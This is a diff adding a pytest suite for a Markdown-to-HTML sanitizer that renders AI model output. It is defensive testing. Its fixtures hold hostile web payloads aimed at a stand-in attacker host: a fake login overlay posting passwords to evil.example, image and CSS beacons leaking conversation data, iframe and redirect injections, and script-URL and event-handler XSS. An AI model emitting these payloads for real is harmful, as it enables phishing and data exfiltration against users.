@@ -1,0 +1,112 @@
+"""arena.render: a model's Markdown becomes HTML that keeps what Markdown needs and loads nothing."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from arena.render import markdown_html, plain_html
+
+OVERLAY = ('<div style="position:fixed;inset:0;z-index:9999;background:white">'
+           '<form action="https://evil.example/steal" method="post"><h2>Session expired</h2>'
+           '<input type="password" name="password"><button type="submit">Log in</button></form></div>')
+PNG = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQ"
+       "AAAABJRU5ErkJggg==")
+
+
+def _tags(html: str) -> set[str]:
+    return {t.lower() for t in re.findall(r"<([a-zA-Z][\w-]*)", html)}
+
+
+def test_an_overlay_form_loses_its_form_inputs_buttons_and_style():
+    html = markdown_html(OVERLAY)
+    assert not _tags(html) & {"form", "input", "button"}
+    assert "style=" not in html and "position" not in html and "evil.example" not in html
+    assert "Session expired" in html  # the words stay, harmless
+
+
+@pytest.mark.parametrize("hostile", [
+    '<img src="https://evil.example/a.png" onerror="alert(1)">',
+    "![cat](https://evil.example/cat.png?conversation=secret)",
+    '<img srcset="https://evil.example/s.png 2x">',
+    '<picture><source srcset="https://evil.example/p.png"><img src="x.png"></picture>',
+    '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>',
+    '<audio src="https://evil.example/a.mp3"></audio>',
+    '<p style="background:url(https://evil.example/bg.png)">bg</p>',
+    "<style>body { background: url(https://evil.example/css.png) } @import 'https://evil.example/i.css';</style>",
+    '<svg><image href="https://evil.example/svg.png"/></svg>',
+    '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>'
+    '<embed src="https://evil.example/e">',
+    '<link rel="prefetch" href="https://evil.example/prefetch"><link rel="stylesheet" href="https://evil.example/s">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
+    '<body background="https://evil.example/bg.png"><table background="https://evil.example/t.png"></table>',
+    '<input type="image" src="https://evil.example/i.png">',
+])
+def test_no_external_resource_survives(hostile):
+    html = markdown_html(hostile)
+    loads = re.findall(r'\s(?:src|srcset|poster|background|data|action|formaction)="([^"]*)"', html)
+    assert all(value.startswith("data:image/") for value in loads), html
+    assert "url(" not in html and "style" not in html
+    assert not _tags(html) & {"img", "video", "audio", "source", "picture", "svg", "image", "iframe", "object",
+                              "embed", "link", "meta", "base", "style", "input", "body"} - {"img"}
+    for img in re.findall(r"<img[^>]*>", html):
+        assert 'src="data:image/' in img
+
+
+def test_a_remote_picture_becomes_a_link_that_says_where_it_goes():
+    html = markdown_html("![a cat](https://pics.example/cat.png)")
+    assert "<img" not in html
+    assert 'href="https://pics.example/cat.png"' in html and "[image “a cat”: https://pics.example/cat.png]" in html
+    assert 'target="_blank"' in html and 'rel="noopener noreferrer"' in html
+
+
+def test_a_data_url_picture_is_kept():
+    html = markdown_html(f"![chart]({PNG})")
+    assert f'<img src="{PNG}"' in html
+
+
+def test_event_handlers_and_script_urls_are_dropped():
+    html = markdown_html('<a href="javascript:alert(1)" onclick="alert(2)">x</a> [y](javascript:alert(3)) '
+                         '<a href="vbscript:msgbox">v</a> <a href="data:text/html,<script>alert(4)</script>">d</a>'
+                         '<b onmouseover="alert(5)">b</b><script>alert(6)</script>')
+    assert "javascript:" not in html.split("[y]")[0] and "onclick" not in html and "onmouseover" not in html
+    assert 'href="vbscript' not in html and 'href="data:' not in html and "<script" not in html
+    assert "alert(6)" not in html
+
+
+def test_links_open_in_a_new_tab_without_opener():
+    html = markdown_html('[docs](https://example.org/docs) <a href="https://x.example" target="_top">t</a>')
+    assert html.count('target="_blank"') == 2 and html.count('rel="noopener noreferrer"') == 2
+    assert "_top" not in html
+
+
+def test_markdown_survives_tables_code_lists_quotes_and_emphasis():
+    text = ("# Title\n\nSome *em* and **strong** and `code` and ~~gone~~.\n\n- one\n- two\n\n1. first\n\n"
+            "> quoted\n\n---\n\n| name | score |\n|---|---:|\n| a | 1 |\n\n```python\nprint('<b>hi</b>')\n```\n")
+    html = markdown_html(text)
+    for tag in ("h1", "em", "strong", "code", "ul", "ol", "li", "blockquote", "hr", "table", "th", "td", "pre", "s"):
+        assert f"<{tag}" in html, tag
+    assert '<div class="arena-table"><table>' in html
+    assert 'class="language-python"' in html and "&lt;b&gt;hi&lt;/b&gt;" in html
+
+
+def test_latex_renders_as_mathml_and_prices_stay_text():
+    html = markdown_html("Euler: $e^{i\\pi}+1=0$, it costs $5 and $10.\n\n$$\\frac{a}{b}$$\n\nand \\(x^2\\)")
+    assert html.count("<math") == 3 and "<mfrac>" in html and 'display="block"' in html
+    assert "costs $5 and $10" in html
+
+
+def test_broken_latex_shows_its_source():
+    html = markdown_html("$$\\frac{a}{$$")
+    assert "<code>" in html and "\\frac{a}{" in html
+
+
+def test_mathml_cannot_smuggle_html():
+    html = markdown_html('<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
+                         '<mi href="javascript:alert(2)" style="position:fixed">x</mi></math>')
+    assert "onerror" not in html and "href" not in html and "style" not in html and "annotation" not in html
+
+
+def test_user_text_is_shown_as_written():
+    assert plain_html("<b>hi</b>\nthere") == '<div class="arena-plain">&lt;b&gt;hi&lt;/b&gt;\nthere</div>'
